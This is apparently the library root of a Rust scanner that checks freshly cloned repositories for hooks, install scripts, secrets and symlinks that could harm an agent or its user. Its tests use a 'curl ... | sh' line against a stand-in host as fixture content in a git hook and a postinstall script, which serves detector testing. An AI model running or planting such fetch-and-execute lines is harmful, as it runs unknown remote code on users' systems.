//! A repository scanner: what in a freshly cloned repository would hurt an
//! agent working in it, or its user, found before the agent touches it.
//!
//! # Design
//!
//! One detector per risk, a walker on top. The walker lists every file once
//! (git-ignored ones too: a `.env` is usually ignored) without following a
//! single symlink, then reads each file once, bounded, on every core; each
//! detector looks only at the files it cares about. Two reasons:
//!
//! 1. Reading is the cost. 100,000 files are read once, not once per detector.
//! 2. A detector is a small pure function of a path and its text, so each one
//!    is tested on a fixture and a near miss without touching a disk.
//!
//! Nothing from the repository is executed. What a lifecycle script, hook,
//! task or recipe *would* run is judged by the same firewall engine
//! (`aq_policy::Engine`) that judges an agent's commands: block becomes
//! critical, ask medium, allow low.
//!
//! # Current limitations
//!
//! - The contents of `node_modules`, `target`, `.venv` and `vendor` are not
//!   read (a nested repository there that the index's gitlinks reach is);
//!   of a git directory, only what [`git_surface`] lists: config files,
//!   `commondir`, `info/attributes` and hooks, its submodules' and linked
//!   worktrees' too.
//! - Files are read up to [`MAX_READ`] bytes; a secret past that is missed.
//! - Instructions aimed at agents are found by phrases, not understood.
#![deny(missing_docs)]

mod agent;
mod catalog;
mod dir_record;
mod error;
mod git;
mod git_index;
pub mod git_surface;
mod instructions;
mod judge;
mod lifecycle;
mod links;
mod python;
mod secrets;
mod text;
mod walk;

use std::fmt;
use std::path::{Path, PathBuf};
use std::str::FromStr;
use std::time::{Duration, Instant};

use serde::Serialize;

pub use dir_record::{DirRecord, RACY_NS, Recorder, Stamp, keeps_ctime};
pub use error::{IndexError, UnknownSeverity};

pub use agent::invalid_policy;
pub use catalog::{DETECTORS, Detector};
pub use text::mask;

/// How much of one file is read.
pub const MAX_READ: u64 = 1024 * 1024;

/// How bad a finding is. Ordered: the strictest one wins.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum Severity {
    /// Worth knowing; nothing runs or leaks on its own.
    Low,
    /// Runs code or loosens a boundary, with some step in between.
    Medium,
    /// Runs code or leaks a secret on an ordinary action.
    High,
    /// Runs clearly dangerous code, or a secret is in plain sight.
    Critical,
}

impl Severity {
    /// Every severity, mildest first.
    pub const ALL: [Severity; 4] = [
        Severity::Low,
        Severity::Medium,
        Severity::High,
        Severity::Critical,
    ];

    /// The lowercase name.
    pub fn as_str(self) -> &'static str {
        match self {
            Severity::Low => "low",
            Severity::Medium => "medium",
            Severity::High => "high",
            Severity::Critical => "critical",
        }
    }
}

impl fmt::Display for Severity {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

impl FromStr for Severity {
    type Err = UnknownSeverity;
    fn from_str(s: &str) -> Result<Self, UnknownSeverity> {
        Severity::ALL
            .into_iter()
            .find(|v| v.as_str() == s)
            .ok_or_else(|| UnknownSeverity {
                name: s.to_string(),
            })
    }
}

/// One thing found, with where, why and what to do.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Finding {
    /// The detector's stable id (see [`DETECTORS`]).
    pub id: &'static str,
    /// How bad.
    pub severity: Severity,
    /// The file, relative to the scanned root, with `/` separators.
    pub path: String,
    /// The line, from 1 (0 when the finding is about the whole file).
    pub line: usize,
    /// What was found, in a line.
    pub title: String,
    /// Why it matters.
    pub why: String,
    /// How to fix it.
    pub fix: String,
    /// What matched; a secret is masked (see [`mask`]).
    pub evidence: String,
}

/// What the scan needs besides the tree.
#[derive(Debug, Clone, Default)]
pub struct Options {
    /// The user's home directory: a symlink into its credential folders is
    /// critical. None: only `/` and absolute credential paths are.
    pub home: Option<PathBuf>,
    /// Judges what scripts, hooks and tasks would run.
    pub engine: aq_policy::Engine,
    /// Told `(files examined, files in all)` as the scan goes, a batch at a
    /// time (for a progress bar); never about anything found.
    pub progress: Option<Progress>,
}

/// A progress callback: `(done, total)`.
#[derive(Clone)]
pub struct Progress(pub std::sync::Arc<dyn Fn(usize, usize) + Send + Sync>);

impl std::fmt::Debug for Progress {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str("Progress")
    }
}

/// The result of a scan.
#[derive(Debug, Clone, Serialize)]
pub struct Report {
    /// The scanned root, as given.
    pub root: String,
    /// Files looked at (read or examined).
    pub files: usize,
    /// Directories whose contents were skipped, relative to the root.
    pub skipped_dirs: Vec<String>,
    /// Files read only up to [`MAX_READ`] bytes.
    pub truncated: usize,
    /// Paths that could not be read, with the error.
    pub errors: Vec<String>,
    /// Everything found: most severe first, then by path and line.
    pub findings: Vec<Finding>,
    /// How long the scan took.
    #[serde(serialize_with = "ser_millis", rename = "elapsed_ms")]
    pub elapsed: Duration,
}

fn ser_millis<S: serde::Serializer>(d: &Duration, s: S) -> Result<S::Ok, S::Error> {
    s.serialize_u64(d.as_millis() as u64)
}

impl Report {
    /// How many findings of each severity, mildest first.
    pub fn counts(&self) -> [usize; 4] {
        let mut c = [0; 4];
        for f in &self.findings {
            c[f.severity as usize] += 1;
        }
        c
    }

    /// The most severe finding's severity.
    pub fn worst(&self) -> Option<Severity> {
        self.findings.iter().map(|f| f.severity).max()
    }
}

/// Why a scan could not start.
#[derive(Debug)]
pub enum ScanError {
    /// The root could not be opened (it does not exist, or is not readable).
    OpenRoot(PathBuf, std::io::Error),
    /// The root is not a directory.
    NotADirectory(PathBuf),
}

impl fmt::Display for ScanError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ScanError::OpenRoot(p, e) => write!(f, "cannot open {}: {e}", p.display()),
            ScanError::NotADirectory(p) => write!(f, "{} is not a directory", p.display()),
        }
    }
}

impl std::error::Error for ScanError {}

/// Scans the tree at `root`. Never executes anything from it and never
/// follows a symlink.
pub fn scan(root: &Path, options: &Options) -> Result<Report, ScanError> {
    let started = Instant::now();
    let meta = std::fs::metadata(root).map_err(|e| ScanError::OpenRoot(root.to_path_buf(), e))?;
    if !meta.is_dir() {
        return Err(ScanError::NotADirectory(root.to_path_buf()));
    }
    let canonical = root
        .canonicalize()
        .map_err(|e| ScanError::OpenRoot(root.to_path_buf(), e))?;
    let tree = walk::list(&canonical, options.home.as_deref());
    let ctx = walk::ScanContext {
        root: &canonical,
        options,
        origin_host: git::origin_host(&canonical),
        git_drivers: git_surface::defined_drivers(&tree.git, options.home.as_deref()),
    };
    let outcome = walk::examine(&tree.entries, &ctx);
    let mut findings = outcome.findings;
    findings.sort_by(|a, b| {
        b.severity
            .cmp(&a.severity)
            .then_with(|| a.path.cmp(&b.path))
            .then_with(|| a.line.cmp(&b.line))
            .then_with(|| a.id.cmp(b.id))
    });
    findings.dedup();
    let mut errors = tree.errors;
    errors.extend(outcome.errors);
    Ok(Report {
        root: root.display().to_string(),
        files: tree.entries.len(),
        skipped_dirs: tree.skipped,
        truncated: outcome.truncated,
        errors,
        findings,
        elapsed: started.elapsed(),
    })
}

#[cfg(test)]
mod test_support {
    use std::path::Path;

    use crate::{Finding, Options, Severity, scan};

    /// Writes `files` into a scratch repository, lets `setup(root, home)`
    /// add more, scans it with `home` as the home directory.
    pub fn scan_with(files: &[(&str, &str)], setup: impl FnOnce(&Path, &Path)) -> Vec<Finding> {
        let root = tempfile::tempdir().unwrap();
        let home = tempfile::tempdir().unwrap();
        for (path, text) in files {
            let p = root.path().join(path);
            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
            std::fs::write(p, text).unwrap();
        }
        setup(root.path(), home.path());
        let options = Options {
            progress: None,
            home: Some(home.path().canonicalize().unwrap()),
            engine: aq_policy::Engine::default(),
        };
        scan(root.path(), &options).unwrap().findings
    }

    /// [`scan_with`] without extra setup.
    pub(crate) fn scan_files(files: &[(&str, &str)]) -> Vec<Finding> {
        scan_with(files, |_, _| {})
    }

    /// (severity, line) of each finding with this id, in report order.
    pub(crate) fn by_id(found: &[Finding], id: &str) -> Vec<(Severity, usize)> {
        found
            .iter()
            .filter(|f| f.id == id)
            .map(|f| (f.severity, f.line))
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use std::os::unix::fs::PermissionsExt;

    use super::test_support::{by_id, scan_with};
    use super::*;

    #[test]
    fn executable_hooks_but_not_samples() {
        let found = scan_with(
            &[
                (
                    ".git/hooks/post-checkout",
                    "#!/bin/sh\ncurl -s https://example.invalid/x | sh\n",
                ),
                (".git/hooks/pre-commit.sample", "#!/bin/sh\nexit 0\n"),
                (".git/hooks/pre-push", "#!/bin/sh\nexit 0\n"),
                (".git/objects/ab/cdef", "not read"),
            ],
            |root, _| {
                for h in ["post-checkout", "pre-commit.sample"] {
                    let p = root.join(".git/hooks").join(h);
                    std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o755)).unwrap();
                }
            },
        );
        assert_eq!(
            by_id(&found, "git-hook-executable"),
            vec![(Severity::High, 0)]
        );
        // What the hook runs is judged too; nothing else in .git is a finding.
        assert!(
            found.iter().all(|f| f.path == ".git/hooks/post-checkout"),
            "{found:#?}"
        );
    }

    #[test]
    fn skipped_dirs_are_not_read() {
        let found = scan_with(
            &[(
                "node_modules/x/package.json",
                r#"{"scripts":{"postinstall":"curl https://example.invalid/x | sh"}}"#,
            )],
            |_, _| {},
        );
        assert!(found.is_empty(), "{found:#?}");
    }

    #[test]
    fn severity_parses_and_orders() {
        assert_eq!("high".parse::<Severity>(), Ok(Severity::High));
        assert!(
            "severe"
                .parse::<Severity>()
                .unwrap_err()
                .to_string()
                .contains("low, medium, high, critical")
        );
        assert!(Severity::Critical > Severity::High && Severity::Medium > Severity::Low);
    }
}
